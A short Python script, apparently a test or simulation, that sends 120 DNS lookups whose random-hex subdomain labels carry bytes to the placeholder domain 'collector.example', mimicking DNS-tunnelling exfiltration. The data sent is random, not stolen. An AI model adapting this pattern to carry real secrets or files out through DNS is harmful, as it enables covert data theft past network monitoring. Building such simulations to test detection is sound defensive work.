# what: data as labels of names, a few bytes in each question
import os, socket, time

print("begun", flush=True)
for i in range(120):
    try:
        socket.getaddrinfo("%s.%d.t.collector.example" % (os.urandom(24).hex(), i), 80)
    except OSError:
        pass
time.sleep(float(os.environ.get("LINGER", "20")))
print("done")
